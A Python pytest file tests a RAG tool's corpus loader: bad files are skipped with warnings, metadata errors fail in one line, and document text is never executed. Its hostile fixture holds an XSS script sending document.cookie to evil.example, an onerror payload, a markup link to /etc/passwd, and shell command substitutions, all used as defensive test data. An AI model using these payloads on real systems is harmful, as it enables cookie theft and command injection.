"""Bad files are skipped with a warning naming them; bad metadata and bad folders fail loudly in one line."""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from rag.config import Settings
from rag.corpus import load_corpus
from rag.errors import CorpusError, UsageError
from tests.helpers import SEEDS, copy_seeds

GOOD = "000_49f02c2bf2791361.txt"
ENV = {**os.environ, "HF_HUB_OFFLINE": "1"}

HOSTILE = """Learning, improvement and innovation

Score 2

2 - Evidence shows some shortfalls

Learning from feedback

Zorbleton published its feedback log as a web page with <script>document.location='https://evil.example/?c='+document.cookie</script> and <img src=x onerror="alert(1)"> inside it.

The feedback team kept notes with [bold red]rich markup[/bold red], [link=file:///etc/passwd]a link[/link], $(touch {marker}) and `touch {marker}` in them.
"""

#: name -> (content, what the warning must say); None content means "made by the fixture".
BAD_FILES = {
    "latin1.txt": ("Caf\xe9 report on Harrow\n".encode("latin-1"), "not UTF-8"),
    "empty.txt": (b"", "empty file"),
    "blank.txt": (b" \n\t\n  \n", "only whitespace"),
    "binary.txt": (b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)), "looks binary"),
    "utf16.txt": ("Harrow report".encode("utf-16"), "looks binary"),
    "huge.txt": (None, "over the 5,000,000-byte limit"),
    "zz_duplicate.txt": (None, f"same content as {GOOD}"),
}


def add_bad_files(folder: Path, marker: Path) -> None:
    for name, (content, _) in BAD_FILES.items():
        if content is not None:
            (folder / name).write_bytes(content)
    with open(folder / "huge.txt", "w", encoding="utf-8") as f:
        line = "Harrow recorded many complaints and learned from them in this very long report.\n"
        f.write(line * (10_000_000 // len(line) + 1))
    (folder / "zz_duplicate.txt").write_bytes((SEEDS / GOOD).read_bytes())
    (folder / "zorbleton.txt").write_text(HOSTILE.format(marker=marker), encoding="utf-8")
    (folder / "notes.md").write_text("not a report")
    (folder / "dir.txt").mkdir()
    (folder / "dangling.txt").symlink_to(folder / "nowhere")
    os.mkfifo(folder / "fifo.txt")  # reading it would hang: it must not be opened


def check_warnings(warnings) -> None:
    """Exactly one one-line warning per bad file, naming it and saying why."""
    assert all("\n" not in w for w in warnings)
    for name, (_, reason) in BAD_FILES.items():
        mine = [w for w in warnings if w.startswith(f"{name}: ")]
        assert len(mine) == 1 and reason in mine[0] and "skipped" in mine[0], (name, warnings)
    assert len(warnings) == len(BAD_FILES)


@pytest.fixture(scope="module")
def marker(tmp_path_factory) -> Path:
    return tmp_path_factory.mktemp("marker") / "executed"


@pytest.fixture(scope="module")
def bad_seeds(tmp_path_factory, marker) -> Path:
    """A copy of the seeds with every kind of bad file added."""
    folder = copy_seeds(tmp_path_factory.mktemp("bad") / "seeds")
    add_bad_files(folder, marker)
    return folder


def test_bad_files_are_skipped_with_one_warning_each(bad_seeds):
    corpus = load_corpus(bad_seeds)
    check_warnings(corpus.warnings)
    good = {p.name for p in SEEDS.glob("*.txt")}
    assert {d.doc_id for d in corpus.documents} == good | {"zorbleton.txt"}
    hostile = corpus.by_id()["zorbleton.txt"]
    assert "<script>" in hostile.text and hostile.score == 2  # kept verbatim: it is text, not markup


def test_rag_index_warns_per_file_and_indexes_the_rest(tmp_path, marker, capsys):
    """Through `rag index` (in-process, with the session's model): warnings on stderr, the rest indexed."""
    from rag.cli import main
    from rag.pipeline import Pipeline

    seeds = tmp_path / "seeds"
    seeds.mkdir()
    shutil.copy(SEEDS / GOOD, seeds / GOOD)
    add_bad_files(seeds, marker)
    index_dir = tmp_path / "index"
    with pytest.raises(SystemExit) as e:
        main(["index", "--seeds", str(seeds), "--index-dir", str(index_dir)])
    out, err = capsys.readouterr()
    assert e.value.code == 0, err
    check_warnings([line.removeprefix("warning: ") for line in err.splitlines() if line.startswith("warning: ")])
    assert "Traceback" not in err and "index rebuilt: 2 documents" in out

    pipeline = Pipeline.load(settings=Settings(documents_dir=seeds, index_dir=index_dir))
    answer = pipeline.ask("What did Zorbleton publish as a web page?")
    cited = "".join(c.passage.chunk.text for c in answer.citations)
    assert "<script>document.location" in cited  # returned as text, exactly as written

    with pytest.raises(SystemExit) as e:
        main(["ask", "What notes did the Zorbleton feedback team keep?", "--seeds", str(seeds),
              "--index-dir", str(index_dir)])
    out, err = capsys.readouterr()
    assert e.value.code == 0, err
    assert "[bold red]rich markup[/bold red]" in out  # printed literally, not read as markup
    assert not marker.exists()  # nothing in a document is ever executed


@pytest.mark.parametrize("meta_score, fragments", [(2, ["score 2", "Score line says 3", "fix metadata.toml"])])
def test_metadata_score_disagreeing_with_score_line_fails_loudly(tmp_path, meta_score, fragments):
    seeds = copy_seeds(tmp_path / "seeds")
    meta = seeds / "metadata.toml"
    text = meta.read_text(encoding="utf-8")
    head, sep, tail = text.partition(f'[documents."{GOOD}"]')
    meta.write_text(head + sep + tail.replace("score = 3", f"score = {meta_score}", 1), encoding="utf-8")
    with pytest.raises(CorpusError) as e:
        load_corpus(seeds)
    assert str(e.value).startswith(f"{GOOD}: metadata says")
    for f in fragments:
        assert f in str(e.value)
    # and through the command, before any model is loaded: exit 1, one line
    r = run_rag("index", "--seeds", str(seeds), "--index-dir", str(tmp_path / "index"))
    assert r.returncode == 1 and r.stdout == ""
    assert r.stderr.strip() == f"error: {e.value}"
    assert not (tmp_path / "index" / "CURRENT").exists()


@pytest.mark.parametrize(
    "entry, fragment",
    [
        ('score = "three"', "score must be a whole number from 1 to 4, not 'three'"),
        ("score = 7", "score must be a whole number from 1 to 4, not 7"),
        ("score = true", "score must be a whole number"),
        ("score = 3.0", "score must be a whole number"),
        ("authority = 5", "authority must be a string"),
        ("quality_statement = []", "quality_statement must be a string"),
    ],
)
def test_malformed_metadata_entry_is_a_corpus_error(tmp_path, entry, fragment):
    seeds = tmp_path / "seeds"
    seeds.mkdir()
    shutil.copy(SEEDS / GOOD, seeds / GOOD)
    (seeds / "metadata.toml").write_text(f'[documents."{GOOD}"]\n{entry}\n', encoding="utf-8")
    with pytest.raises(CorpusError, match=fragment) as e:
        load_corpus(seeds)
    assert "metadata.toml" in str(e.value) and "\n" not in str(e.value)


@pytest.mark.parametrize(
    "content, fragment",
    [
        (b'[documents."x.txt"\nscore = 3', "not valid TOML"),
        (b"\xff\xfe[documents]", "not valid TOML"),
        (f'[documents]\n"{GOOD}" = 3\n'.encode(), "must be a table"),
        (b'documents = "none"\n', "must be a table"),
    ],
    ids=["syntax", "binary", "entry-not-table", "documents-not-table"],
)
def test_unreadable_metadata_is_a_corpus_error(tmp_path, content, fragment):
    seeds = tmp_path / "seeds"
    seeds.mkdir()
    shutil.copy(SEEDS / GOOD, seeds / GOOD)
    (seeds / "metadata.toml").write_bytes(content)
    with pytest.raises(CorpusError, match=fragment):
        load_corpus(seeds)


def test_report_with_only_headings_is_a_corpus_error(tmp_path, encoder):
    from rag.indexer import build_index

    seeds = tmp_path / "seeds"
    seeds.mkdir()
    (seeds / "title-only.txt").write_text("Learning, improvement and innovation\n", encoding="utf-8")
    with pytest.raises(CorpusError, match="no paragraphs to index"):
        build_index(Settings(documents_dir=seeds, index_dir=tmp_path / "index"), encoder=encoder, progress=False)


def run_rag(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "rag.cli", *args], capture_output=True, text=True, timeout=120,
                          env=ENV)


@pytest.mark.parametrize(
    "command, folder",
    [("index", "missing"), ("index", "empty"), ("index", "only-bad"), ("ask", "missing"), ("ask", "empty")],
)
def test_missing_or_empty_seeds_folder_exits_2_with_one_line(tmp_path, command, folder):
    seeds = tmp_path / "seeds"
    if folder != "missing":
        seeds.mkdir()
    if folder == "only-bad":
        (seeds / "empty.txt").write_bytes(b"")
        (seeds / "binary.txt").write_bytes(b"\x00\x01")
    args = ["ask", "What did Harrow do?"] if command == "ask" else ["index"]
    r = run_rag(*args, "--seeds", str(seeds), "--index-dir", str(tmp_path / "index"))
    assert r.returncode == 2 and r.stdout == ""
    expected = {
        "missing": f"error: documents folder not found: {seeds}",
        "empty": f"error: no documents (*.txt) in {seeds}",
        "only-bad": f"error: no readable documents in {seeds}: binary.txt: looks binary (contains NUL bytes), "
                    "skipped; empty.txt: empty file, skipped",
    }[folder]
    assert r.stderr.strip() == expected


def test_load_corpus_errors_are_usage_errors(tmp_path):
    with pytest.raises(UsageError, match="documents folder not found"):
        load_corpus(tmp_path / "nope")
    with pytest.raises(UsageError, match="no documents"):
        load_corpus(tmp_path)
    (tmp_path / "a.txt").write_text("x")
    with pytest.raises(UsageError, match="documents folder not found"):
        load_corpus(tmp_path / "a.txt")  # a file, not a folder
    assert json.dumps([d.doc_id for d in load_corpus(tmp_path).documents]) == '["a.txt"]'


def test_unreadable_file_is_skipped_with_a_warning(tmp_path, monkeypatch):
    seeds = copy_seeds(tmp_path / "seeds")
    locked = seeds / "locked.txt"
    locked.write_text("Harrow\n\nA paragraph.\n")
    real = Path.read_bytes

    def read_bytes(self):
        if self.name == "locked.txt":
            raise PermissionError(13, "Permission denied")
        return real(self)

    monkeypatch.setattr(Path, "read_bytes", read_bytes)
    corpus = load_corpus(seeds)
    assert corpus.warnings == ("locked.txt: cannot be read (Permission denied), skipped",)
    assert len(corpus.documents) == 5
